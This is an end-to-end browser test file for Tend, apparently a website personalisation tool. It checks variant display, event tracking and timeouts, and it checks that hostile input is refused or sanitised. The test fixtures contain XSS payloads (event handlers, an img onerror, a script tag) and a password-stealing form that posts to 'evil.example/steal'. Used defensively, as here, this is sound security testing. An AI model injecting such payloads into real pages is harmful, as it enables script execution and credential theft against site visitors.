// Website content on a real website in real Chromium: a page on its own origin has a
// content slot (data-tend-slot="hero") and the snippet. A stranger sees Tend's default;
// the same browser, once known as a lead, sees the lead variant with its CTA, and never
// the default first (every animation frame is sampled); a customer (in a segment) sees
// the customer variant. Impressions and clicks land on the contact's timeline. When
// Tend answers too late, the page's own content shows and the late answer is ignored.
// The public endpoint refuses hostile input field by field, and a script in a
// variant's HTML never reaches the page.
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { Page } from 'playwright-core';
import { serveSite, type Site } from '../support/site.js';
import { startTend, type Tend } from '../support/tend.js';
import { openBrowser, signIn, type Session } from './support/browser.js';

let tend: Tend;
let s: Session;
let site: Site;
let siteUrl: string;
let key: string;
let slotId: string;

const HERO = {
  key: 'hero',
  name: 'Home page hero',
  defaultHtml: '<h2>Welcome to Acme</h2><p>Tools for teams.</p>',
  variants: [
    { key: 'customer', name: 'Customers', html: '<h2>Welcome back, customer</h2><a href="/account" data-tend-cta="open-account">Your account</a>', condition: { field: 'contact.segments', op: 'contains', value: 'customers' } },
    {
      key: 'lead', name: 'Leads',
      // A hostile marketer (or a stolen session) tries to run script on the customer's site.
      html: '<h2 onmouseover="window.pwned=1">Ready for a demo?</h2><img src="/x" alt="" onerror="window.pwned=1"><script>window.pwned=1</script><a href="/demo" class="cta" data-tend-cta="book-demo">Book a demo</a>',
      condition: { all: [{ field: 'contact.attributes.stage', op: 'eq', value: 'lead' }, { field: 'contact.score', op: 'gte', value: 10 }] },
    },
  ],
};

beforeAll(async () => {
  [tend, s] = await Promise.all([startTend({ worker: false }), openBrowser()]);
  key = (await tend.api('POST', '/api/site-keys', { name: 'localhost' })).body.key;
  const segment = await tend.api('POST', '/api/segments', { key: 'customers', name: 'Customers', condition: { field: 'contact.attributes.plan', op: 'eq', value: 'pro' } });
  expect(segment.status).toBe(201);
  const created = await tend.api('POST', '/api/content-slots', HERO);
  expect(created.status).toBe(201);
  slotId = created.body.id;
  // The head snippet the README gives: slots stay hidden from the first paint until t.js answers (or 1 s passes).
  const head = `<style>.tend-wait [data-tend-slot]{visibility:hidden}</style><script>document.documentElement.classList.add('tend-wait');setTimeout(function(){document.documentElement.classList.remove('tend-wait')},1000)</script>`;
  const style = '<style>body{font-family:system-ui,sans-serif;max-width:40rem;margin:2rem auto}[data-tend-slot]{border:1px solid #d6d3d1;border-radius:10px;padding:1rem 1.5rem;margin:1rem 0;background:#fafaf9}.cta{display:inline-block;background:#166534;color:#fff;padding:.5rem 1rem;border-radius:6px;text-decoration:none}</style>';
  const snippet = `<script src="${tend.url}/t.js" data-key="${key}" async></script>`;
  const pages: Record<string, string> = {
    '/': `<!doctype html><html><head><title>Acme</title>${style}${head}${snippet}</head><body><h1>Acme</h1><div data-tend-slot="hero"><h2>Page's own welcome</h2></div><div data-tend-slot="unknown-slot"><p>Left alone</p></div></body></html>`,
    '/demo': '<!doctype html><title>Demo</title><h1>Book a demo</h1>',
  };
  // The variant's image, and the icon: empty answers (an image that fails to load would fire an onerror left in).
  site = await serveSite(pages, ['/favicon.ico', '/x']);
  siteUrl = site.url;
});
afterAll(async () => {
  await s?.close();
  await site?.close();
  await tend?.stop();
});

/** Records, on every animation frame from the first, the text of the hero slot whenever it is visible. */
async function sampleFrames(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const seen: string[] = [];
    (window as any).heroSeen = seen;
    const frame = () => {
      const el = document.querySelector('[data-tend-slot="hero"]') as HTMLElement | null;
      if (el && getComputedStyle(el).visibility !== 'hidden') {
        const text = el.textContent!.trim();
        if (seen[seen.length - 1] !== text) seen.push(text);
      }
      requestAnimationFrame(frame);
    };
    requestAnimationFrame(frame);
  });
}
const hero = (page: Page) => page.locator('[data-tend-slot="hero"][data-tend-ready]');
const timeline = async (contactId: string) => (await tend.api('GET', `/api/contacts/${contactId}/timeline`)).body.entries.filter((e: any) => e.kind === 'event');
const visitorOf = async (vid: string) => (await tend.sql('SELECT contact_id FROM contact_identities WHERE kind = $1 AND value = $2', ['anonymous', vid]))[0]?.contact_id as string | undefined;

test('a stranger sees the default; known as a lead, the lead variant without a flash; a customer the customer variant; impressions and clicks on the timeline', async () => {
  const { page } = s;
  await sampleFrames(page);
  await page.goto(siteUrl + '/');
  await hero(page).waitFor();
  expect(await hero(page).getAttribute('data-tend-variant')).toBe('default');
  expect(await hero(page).locator('h2').textContent()).toBe('Welcome to Acme');
  // A slot Tend does not have keeps the page's content, and no impression is counted for it.
  expect(await page.locator('[data-tend-slot="unknown-slot"]').textContent()).toBe('Left alone');
  expect(await page.locator('[data-tend-slot="unknown-slot"]').isVisible()).toBe(true);
  expect(await page.evaluate(() => (window as any).heroSeen)).toEqual(['Welcome to AcmeTools for teams.']);
  const vid = (await page.context().cookies(siteUrl)).find((c) => c.name === 'tend_vid')!.value;

  // The visitor becomes known: an existing lead with enough score.
  const lead = await tend.api('PUT', '/api/contacts', { email: 'lena@example.com', attributes: { stage: 'lead', first_name: 'Lena' } });
  expect(lead.status).toBeLessThan(300);
  await tend.sql('UPDATE contacts SET score = 15 WHERE email = $1', ['lena@example.com']);
  await page.evaluate(() => (window as any).tend.identify({ email: 'lena@example.com' }));
  // The merge moves the browser's id onto the lead.
  const leadId = lead.body.id as string;
  const contactId = await tend.until(async () => (await visitorOf(vid)) === leadId && leadId, 'the visitor merged into the lead');

  await page.reload();
  await hero(page).waitFor();
  expect(await hero(page).getAttribute('data-tend-variant')).toBe('lead');
  // Neither Tend's default nor the page's own content was ever on screen: the first visible frame is the variant.
  expect(await page.evaluate(() => (window as any).heroSeen)).toEqual(['Ready for a demo?Book a demo']);
  // The HTML was cleaned on save: no handler, no script, no image with onerror ran.
  expect(await hero(page).innerHTML()).toBe('<h2>Ready for a demo?</h2><img src="/x" alt=""><a href="/demo" class="cta" data-tend-cta="book-demo">Book a demo</a>');
  expect(await page.evaluate(() => (window as any).pwned)).toBeUndefined();
  await hero(page).locator('h2').hover();
  expect(await page.evaluate(() => (window as any).pwned)).toBeUndefined();
  await s.screenshot('website-content-lead');
  await page.getByRole('link', { name: 'Book a demo' }).click();
  await page.waitForURL(siteUrl + '/demo');

  const events = await tend.until(async () => {
    const entries = await timeline(contactId);
    return entries.some((e: any) => e.type === 'content_clicked') && entries;
  }, 'the click on the timeline');
  const shown = events.filter((e: any) => e.type === 'content_shown').map((e: any) => e.properties);
  expect(shown).toEqual(expect.arrayContaining([
    expect.objectContaining({ slot: 'hero', variant: 'default', path: '/' }),
    expect.objectContaining({ slot: 'hero', variant: 'lead', path: '/' }),
  ]));
  expect(shown).toHaveLength(2);
  expect(events.find((e: any) => e.type === 'content_clicked').properties).toMatchObject({ slot: 'hero', variant: 'lead', cta: 'book-demo', text: 'Book a demo', href: siteUrl + '/demo' });
  expect(events.find((e: any) => e.type === 'cta_clicked').properties).toMatchObject({ name: 'book-demo' });

  // Now a customer: the plan puts her in the segment, and the next page shows it.
  await tend.api('PUT', '/api/contacts', { email: 'lena@example.com', attributes: { plan: 'pro' } });
  await tend.until(async () => (await tend.sql("SELECT 1 FROM segment_members m JOIN segments s ON s.id = m.segment_id WHERE s.key = 'customers' AND m.contact_id = $1", [contactId])).length > 0, 'the segment membership');
  await page.goto(siteUrl + '/');
  await hero(page).waitFor();
  expect(await hero(page).getAttribute('data-tend-variant')).toBe('customer');
  expect(await hero(page).locator('h2').textContent()).toBe('Welcome back, customer');

  // The Website screen counts them per variant.
  const stats = (await tend.api('GET', `/api/content-slots/${slotId}/stats`)).body.variants;
  expect(stats).toEqual(expect.arrayContaining([{ variant: 'lead', shown: 1, clicked: 1 }, { variant: 'default', shown: 1, clicked: 0 }]));
  expect(s.errors).toEqual([]);
});

test('when Tend answers too late, the page keeps its own content and the late answer is not swapped in', async () => {
  const context = await s.browser.newContext();
  const page = await context.newPage();
  await sampleFrames(page);
  await page.route('**/t/content?**', async (route) => { await new Promise((r) => setTimeout(r, 2500)); await route.continue().catch(() => undefined); });
  const started = Date.now();
  await page.goto(siteUrl + '/');
  await hero(page).waitFor();
  expect(Date.now() - started).toBeLessThan(2500);
  expect(await hero(page).getAttribute('data-tend-variant')).toBe('default');
  expect(await hero(page).locator('h2').textContent()).toBe("Page's own welcome");
  await page.waitForTimeout(3000);
  expect(await page.evaluate(() => (window as any).heroSeen)).toEqual(["Page's own welcome"]);
  const vid = (await context.cookies(siteUrl)).find((c) => c.name === 'tend_vid')!.value;
  const contactId = await tend.until(() => visitorOf(vid), 'the visitor');
  const shown = await tend.until(async () => (await timeline(contactId)).find((e: any) => e.type === 'content_shown'), 'the impression');
  expect(shown.properties).toMatchObject({ slot: 'hero', variant: 'default', late: true });
  await context.close();
});

test('the public endpoint names each bad parameter, refuses unknown keys, and answers only for slots that exist', async () => {
  const get = async (query: string) => {
    const res = await fetch(`${tend.url}/t/content?${query}`);
    return { status: res.status, body: await res.json() as any, headers: res.headers };
  };
  const ok = await get(`key=${key}&slots=hero,nope`);
  expect(ok.status).toBe(200);
  expect(ok.headers.get('cache-control')).toBe('private, no-store');
  expect(ok.headers.get('access-control-allow-origin')).toBe('*');
  expect(ok.body).toEqual({ slots: { hero: { variant: 'default', html: HERO.defaultHtml } } });

  expect((await get('slots=hero')).body.errors).toEqual([{ path: '?key', message: 'is required' }]);
  expect((await get(`key=pk_not-a-key&slots=hero`)).body.errors).toEqual([{ path: '?key', message: 'is not a site key (pk_…)' }]);
  const bad = await get(`key=${key}&slots=hero,<script>,ok&vid=x`);
  expect(bad.status).toBe(422);
  expect(bad.body.errors).toEqual([
    { path: '?vid', message: 'is not a visitor id (8 to 64 letters, digits, - or _)' },
    { path: '?slots/1', message: '"<script>" is not a slot key (lower case letters, digits, - and _)' },
  ]);
  expect((await get(`key=${key}&slots=hero&slots=other`)).body.errors).toEqual([{ path: '?slots', message: 'give it once, as text' }]);
  expect((await get(`key=${key}&slots=${Array.from({ length: 21 }, (_, i) => `s${i}`).join(',')}`)).body.errors).toEqual([{ path: '?slots', message: 'at most 20 slots a page' }]);
  const unknown = await get(`key=pk_${'a'.repeat(32)}&slots=hero`);
  expect(unknown.status).toBe(401);
  expect(unknown.body.errors).toEqual([{ path: '?key', message: 'this site key does not exist or was revoked' }]);
});

test('the API refuses bad slots with the field named, and a taken key', async () => {
  const bad = await tend.api('POST', '/api/content-slots', { key: 'Hero!', name: '', variants: [{ key: 'default', name: 'x', html: '', condition: { fact: 'count', event: 'order_completed', op: 'gte', value: 1 } }] });
  expect(bad.status).toBe(422);
  expect(bad.body.errors.map((e: any) => e.path)).toEqual(expect.arrayContaining(['/key', '/name']));
  const rules = await tend.api('POST', '/api/content-slots', { key: 'promo', name: 'Promo', variants: [{ key: 'default', name: 'x', html: '', condition: { fact: 'count', event: 'order_completed', op: 'gte', value: 1 } }] });
  expect(rules.status).toBe(422);
  expect(rules.body.errors).toEqual([
    { path: '/variants/0/key', message: '"default" names the slot\'s default; choose another key' },
    { path: '/variants/0/condition/fact', message: expect.stringContaining('make a segment with the fact') },
  ]);
  const taken = await tend.api('POST', '/api/content-slots', { ...HERO, name: 'Another hero' });
  expect(taken.status).toBe(409);
  expect(taken.body.errors).toEqual([{ path: '/key', message: 'another content slot has key "hero"' }]);
});

test('the Website screen lists the slot, edits its default and shows the figures per variant', async () => {
  const context = await s.browser.newContext({ viewport: { width: 1280, height: 1400 } });
  const page = await context.newPage();
  const errors: string[] = [];
  page.on('console', (m) => { if (m.type() === 'error') errors.push(m.text()); });
  await signIn(page, tend);
  await page.getByRole('navigation', { name: 'Screens' }).getByRole('link', { name: 'Website' }).click();
  await page.getByRole('link', { name: 'Home page hero' }).click();
  await page.getByTestId('content-variant').first().waitFor();
  expect(await page.getByTestId('content-variant').count()).toBe(2);
  expect(await page.getByLabel('Variant 2: HTML').inputValue()).not.toContain('script');
  expect(await page.getByTestId('slot-snippet').textContent()).toBe('<div data-tend-slot="hero">your default</div>');
  await page.getByTestId('variant-figures').filter({ hasText: 'Leads' }).filter({ hasText: '100.0 %' }).waitFor();
  await page.getByLabel('Default HTML').fill('<h2>Hello from Acme</h2><form action="https://evil.example/steal"><input name="password"></form>');
  await page.getByTestId('save-content-slot').click();
  await page.getByText('pages show it within 10 seconds').waitFor();
  await page.screenshot({ path: 'test/artifacts/website-content-editor.png', fullPage: true });
  expect((await tend.api('GET', `/api/content-slots/${slotId}`)).body.defaultHtml).toBe('<h2>Hello from Acme</h2>');
  // Saved through this server: its next answer has the change at once (the cache was emptied).
  const res = await fetch(`${tend.url}/t/content?key=${key}&slots=hero`);
  expect((await res.json() as any).slots.hero.html).toBe('<h2>Hello from Acme</h2>');
  await context.close();
  expect(errors).toEqual([]);
});
